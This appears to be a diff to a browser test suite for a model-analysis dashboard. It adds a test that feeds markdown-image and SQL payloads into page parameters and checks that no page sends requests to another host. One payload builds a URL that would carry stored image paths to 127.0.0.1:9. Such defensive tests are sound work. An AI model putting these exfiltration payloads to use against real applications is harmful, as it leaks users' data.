@@ -9,7 +9,7 @@ QUERY = "select%20model%2C%20is_as_ratio%20from%20latest.model_scores"
 
 #: Pages with choices, what they must show, and how many charts.
 PAGES = {
-    "models": ("", "Which model keeps meaning out of its null space?", 3),
+    "models": ("models", "Which model keeps meaning out of its null space?", 3),
     "classes": ("classes?beside=plain", "Which classes leak?", 2),
     "concepts": ("concepts", "Which meanings move when the null part goes?", 2),
     "image": ("image?model=plain", "What does one picture lose with its null part?", 1),
@@ -153,6 +153,41 @@ def test_a_click_on_a_class_shows_its_images(look):
 
 
 @pytest.mark.parametrize(
+    "path",
+    [
+        "sql?q=select%20cast('![x](http%3A%2F%2F127.0.0.1%3A9%2F%3Fd%3D'%20||%20(select%20"
+        "string_agg(path)%20from%20latest.images)%20||%20')'%20as%20int)",
+        "models?model=![x](http://127.0.0.1:9/a)&by=![x](http://127.0.0.1:9/b)",
+        "classes?find=![x](http://127.0.0.1:9/a)&class=![x](http://127.0.0.1:9/b)",
+        "concepts?find=![x](http://127.0.0.1:9/a)&phrase=![x](http://127.0.0.1:9/b)",
+        "image?image=![x](http://127.0.0.1:9/a)&find=![x](http://127.0.0.1:9/b)",
+        "steering?target=![x](http://127.0.0.1:9/a)&words=![x](http://127.0.0.1:9/b)",
+        "runs?other=![x](http://127.0.0.1:9/a)&run=![x](http://127.0.0.1:9/b)",
+    ],
+)
+def test_no_link_makes_a_page_ask_another_host(look, path):
+    look.open(path)
+
+    outside = [
+        url for url in look.requests() if not url.startswith((look.address, "data:", "blob:"))
+    ]
+    assert outside == []
+    assert "![x](http" in look.text or path.startswith(("concepts", "steering"))
+
+
+def test_every_page_has_an_address_and_a_title_of_its_own(look):
+    titles = set()
+    for name in PAGES:
+        look.open(name)
+        assert "Page not found" not in look.text
+        titles.add(look.driver.title)
+
+    assert len(titles) == len(PAGES)
+    links = [link.get_attribute("href") for link in look.all("[data-testid=stPageLink-NavLink]")]
+    assert any("/models?" in link for link in links[:8])
+
+
+@pytest.mark.parametrize(
     ("label", "starts"),
     [("PNG", b"\x89PNG"), ("SVG", b"<svg"), ("CSV", b"model,feature_share,")],
 )
@@ -163,10 +198,10 @@ def test_a_chart_is_saved(look, label, starts):
 
     look.all("[data-testid=stPopover] button")[0].click()
     look.settle()
-    look.click("[data-testid=stDownloadButton] button", label)
+    look.click("[data-testid=stPopoverBody] button", label)
 
     name = f"models-by-share.{label.lower()}"
-    for _ in range(100):
+    for _ in range(400):
         if (look.driver.downloads / name).exists():
             break
         time.sleep(0.1)
